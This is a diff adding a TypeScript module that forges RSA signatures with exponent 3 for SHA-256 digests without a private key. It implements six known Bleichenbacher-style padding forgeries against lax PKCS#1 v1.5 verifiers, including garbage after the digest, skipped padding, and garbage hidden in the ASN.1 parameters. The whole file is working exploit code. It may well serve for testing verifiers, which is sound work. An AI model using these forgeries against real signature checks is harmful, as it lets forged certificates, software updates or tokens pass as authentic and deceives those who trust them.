@@ -1,0 +1,129 @@
+import { createHash } from "node:crypto";
+import { bytesOfNumber, cubeRoot, cubeRootOfEnd, numberOfBytes } from "./rsa-numbers.ts";
+
+/** The forged signature of a message under a modulus and the exponent 3; `undefined` for digests that it cannot forge. */
+export type Forge = (message: Uint8Array | string, modulus: bigint) => Uint8Array | undefined;
+
+/** A forgery: what a lax verifier overlooks, and how a number is found whose cube it takes for the padded digest. */
+export interface Forgery {
+  readonly name: string;
+  readonly comment: string;
+  readonly forge: Forge;
+}
+
+const SEQUENCE = 0x30;
+const OCTET_STRING = 0x04;
+const SHA256_OID = bytesOfHex("0609608648016503040201");
+const DIGEST_INFO = bytesOfHex("3031300d060960864801650304020105000420");
+const EIGHT_FF = Array.from({ length: 8 }, () => 0xff);
+
+/** How padding was overlooked in the wild since 2006, each as a forgery without any private key. */
+export const forgeries: readonly Forgery[] = [
+  {
+    name: "garbage-behind-digest",
+    comment:
+      "Eight bytes of padding, the digest, then garbage: for verifiers that stop reading behind the digest (2006).",
+    forge: beginningWith((digest) => [0, 1, ...EIGHT_FF, 0, ...DIGEST_INFO, ...digest]),
+  },
+  {
+    name: "no-padding",
+    comment: "No byte of padding, the digest, then garbage: for verifiers that count no padding.",
+    forge: beginningWith((digest) => [0, 1, 0, ...DIGEST_INFO, ...digest]),
+  },
+  {
+    name: "no-digest-name",
+    comment:
+      "Eight bytes of padding and the bare digest, then garbage: for verifiers that skip the name of the digest.",
+    forge: beginningWith((digest) => [0, 1, ...EIGHT_FF, 0, ...digest]),
+  },
+  {
+    name: "digest-alone-at-end",
+    comment: "Garbage, then the digest with its name: for verifiers that look at the end alone.",
+    forge: endingWith((digest) => [...DIGEST_INFO, ...digest]),
+  },
+  {
+    name: "padding-unread",
+    comment: "The block's type, garbage for padding, the digest at the end: for verifiers that skip to the last bytes.",
+    forge: between(
+      () => [0, 1, ...EIGHT_FF],
+      (digest) => [0, ...DIGEST_INFO, ...digest],
+    ),
+  },
+  {
+    name: "garbage-in-parameters",
+    comment:
+      "Garbage in the parameters of the digest's name: for verifiers that read ASN.1 and skip them (2006, 2014).",
+    forge: between(withParameters, (digest) => [OCTET_STRING, digest.length, ...digest]),
+  },
+];
+
+type Part = (digest: readonly number[], length: number) => readonly number[];
+
+/** The cube begins as wanted: the root of that beginning, rounded up. */
+function beginningWith(part: Part): Forge {
+  return (message, modulus) => {
+    const { digest, length } = read(message, modulus);
+    const wanted = part(digest, length);
+    const shift = 8n * BigInt(length - wanted.length);
+    const root = cubeRoot(((numberOfBytes(wanted) + 1n) << shift) - 1n);
+    return Uint8Array.from(bytesOfNumber(root, length));
+  };
+}
+
+/** The cube ends as wanted: only odd digests have such roots. */
+function endingWith(part: Part): Forge {
+  return (message, modulus) => {
+    const { digest, length } = read(message, modulus);
+    const wanted = part(digest, length);
+    if (isEven(wanted)) return undefined;
+    const root = cubeRootOfEnd(numberOfBytes(wanted), 8 * wanted.length);
+    return Uint8Array.from(bytesOfNumber(root, length));
+  };
+}
+
+/** The cube begins and ends as wanted: the low bits of the root settle the end, the high ones the beginning. */
+function between(first: Part, last: Part): Forge {
+  return (message, modulus) => {
+    const { digest, length } = read(message, modulus);
+    const beginning = first(digest, length);
+    const end = last(digest, length);
+    if (isEven(end)) return undefined;
+    const bits = 8n * BigInt(end.length);
+    // In the middle of what begins as wanted, so that the low bits do not carry it away.
+    const shift = 8n * BigInt(length - beginning.length);
+    const high = cubeRoot((numberOfBytes(beginning) << shift) + (1n << (shift - 1n)));
+    const root = ((high >> bits) << bits) | cubeRootOfEnd(numberOfBytes(end), 8 * end.length);
+    return Uint8Array.from(bytesOfNumber(root, length));
+  };
+}
+
+/** ASN.1 up to the parameters, whose length covers all that is left before the digest. */
+function withParameters(digest: readonly number[], length: number): readonly number[] {
+  const end = 2 + digest.length;
+  // The block's type, its padding, the two sequences and the parameters, each with a length in two bytes.
+  const rest = length - 3 - EIGHT_FF.length - end;
+  const parameters = rest - 3 * 4 - SHA256_OID.length;
+  return [
+    ...[0, 1, ...EIGHT_FF, 0],
+    ...[SEQUENCE, 0x82, ...twoBytes(rest - 4 + end)],
+    ...[SEQUENCE, 0x82, ...twoBytes(rest - 8), ...SHA256_OID],
+    ...[OCTET_STRING, 0x82, ...twoBytes(parameters)],
+  ];
+}
+
+function read(message: Uint8Array | string, modulus: bigint): { digest: readonly number[]; length: number } {
+  const digest = [...createHash("sha256").update(message).digest()];
+  return { digest, length: Math.ceil(modulus.toString(16).length / 2) };
+}
+
+function isEven(bytes: readonly number[]): boolean {
+  return (bytes.at(-1) ?? 0) % 2 === 0;
+}
+
+function twoBytes(value: number): readonly number[] {
+  return [value >> 8, value & 0xff];
+}
+
+function bytesOfHex(hex: string): readonly number[] {
+  return (hex.match(/../g) ?? []).map((byte) => Number.parseInt(byte, 16));
+}
